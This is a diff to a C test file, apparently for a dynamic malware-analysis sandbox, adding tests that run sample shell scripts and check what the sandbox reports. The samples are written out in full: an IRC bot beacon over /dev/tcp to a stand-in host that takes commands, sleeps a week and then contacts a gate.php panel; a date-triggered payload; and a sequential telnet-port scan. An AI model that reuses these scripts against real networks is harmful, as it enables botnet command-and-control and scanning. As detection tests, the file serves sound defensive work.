@@ -6,6 +6,7 @@
 #include <stdlib.h>
 #include <sys/mman.h>
 #include <sys/stat.h>
+#include <time.h>
 #include <unistd.h>
 
 static json_t *find(const json_t *list, const char *key, const char *value)
@@ -170,6 +171,7 @@ static const char *setting_of(const json_t *d, unsigned run)
 /* Code that does nothing where it does not like what it sees. */
 static void ways(void)
 {
+	char *text;
 	json_t *d = run_text("#!/bin/sh\necho x > /tmp/out\n", "/tmp/x.sh", "script");
 
 	OK(d && json_array_size(json_object_get(d, "runs")) == 1 && seen_in(d, "/tmp/out", 0) && !strcmp(setting_of(d, 0), "root"),
@@ -184,8 +186,13 @@ static void ways(void)
 	OK(d && json_array_size(json_object_get(d, "processes")) == 3, "and its processes");
 	json_decref(d);
 	d = run_text("#!/bin/sh\ncase $LANG in ru_*) echo x > /tmp/out ;; esac\n", "/tmp/x.sh", "script");
-	OK(d && seen_in(d, "/tmp/out", 3) && !strcmp(setting_of(d, 3), "russian"), "what minds the language meets another");
+	OK(d && seen_in(d, "/tmp/out", 5) && !strcmp(setting_of(d, 5), "russian"), "what minds the language meets another");
 	json_decref(d);
+	text = buf_printf("#!/bin/sh\n[ \"$(date +%%s)\" -gt %lld ] && echo x > /tmp/out\n", (long long)time(NULL) + 30 * 86400);
+	d = run_text(text, "/tmp/x.sh", "script");
+	OK(d && seen_in(d, "/tmp/out", 3) && !strcmp(setting_of(d, 3), "later"), "what waits for a date meets it");
+	json_decref(d);
+	free(text);
 	if (geteuid() == 0) {
 		d = run_text("#!/bin/sh\n[ \"$(id -u)\" != 0 ] && echo $(id -u) > /tmp/out\n", "/tmp/x.sh", "script");
 		OK(d && seen_in(d, "/tmp/out", 1), "what is no root's is run by a user");
@@ -196,9 +203,44 @@ static void ways(void)
 	json_decref(d);
 }
 
+/* A beacon that waits for days between two calls: all of it is seen within the second, and whose it was. */
+static void network(void)
+{
+	json_t *d = run_text("#!/bin/bash\nexec 3<>/dev/tcp/irc.badhost.test/6667\nprintf 'NICK zx81\\r\\nUSER a b c :d\\r\\nJOIN #cmd\\r\\n' >&3\n"
+		"while read -r -t 5 l <&3; do case $l in *PRIVMSG*) printf 'PRIVMSG #cmd :ok then\\r\\n' >&3; break ;; esac; done\nsleep 604800\n"
+		"exec 4<>/dev/tcp/198.51.100.77/80\nprintf 'GET /gate.php?id=7 HTTP/1.0\\r\\nHost: gate.example\\r\\n\\r\\n' >&4\ncat <&4 >/dev/null\n", "/tmp/x.sh", "script");
+	const json_t *irc = find(json_object_get(d, "exchanges"), "service", "irc"), *http = find(json_object_get(d, "exchanges"), "service", "http");
+	const json_t *sleep = json_array_get(json_object_get(d, "sleeps"), 0), *said = json_array_get(json_object_get(irc, "said"), 0), *o;
+
+	OK(irc && jsonio_str(irc, "name") && !strcmp(jsonio_str(irc, "name"), "irc.badhost.test"), "a name leads to an address that leads back to it");
+	OK(said && !strcmp(jsonio_str(said, "text"), "ok then"), "a bot is given commands, and answers");
+	OK(find(json_object_get(d, "signs"), "name", "joins-irc") != NULL, "sign: joins IRC");
+	OK(sleep && jsonio_num(sleep, "seconds", 0) > 604799 && jsonio_num(json_array_get(json_object_get(d, "runs"), 0), "seconds", 99) < 2.5,
+	   "a week passes at once");
+	OK(http && jsonio_int(http, "pid", 0) == jsonio_int(json_array_get(json_object_get(d, "processes"), 0), "pid", -1), "an exchange is its process's");
+	OK(find(json_object_get(d, "indicators"), "value", "http://gate.example/gate.php?id=7") != NULL, "its page is an indicator");
+	OK(find(json_object_get(d, "indicators"), "value", "198.51.100.77") != NULL, "so is an address without a name");
+	o = find(json_object_get(d, "timeline"), "event", "http");
+	OK(o && !strcmp(jsonio_str(o, "what"), "GET gate.example/gate.php?id=7"), "the timeline tells of it");
+	json_decref(d);
+}
+
+static void scans(void)
+{
+	json_t *d = run_text("#!/bin/bash\nfor i in {1..40}; do : >/dev/tcp/203.0.113.$i/23; done 2>/dev/null\n", "/tmp/x.sh", "script");
+	const json_t *scan = json_array_get(json_object_get(d, "scans"), 0);
+
+	OK(scan && jsonio_int(scan, "port", 0) == 23 && jsonio_int(scan, "addresses", 0) == 40 && !strcmp(jsonio_str(scan, "order"), "sequential"),
+	   "a scan is told by port, number and order");
+	OK(find(json_object_get(d, "signs"), "name", "scans") && !find(json_object_get(d, "indicators"), "kind", "ip"), "its addresses are no indicators");
+	json_decref(d);
+}
+
 int main(void)
 {
 	msg_init("micro_dynamic");
+	network();
+	scans();
 	settler();
 	scripts();
 	ways();
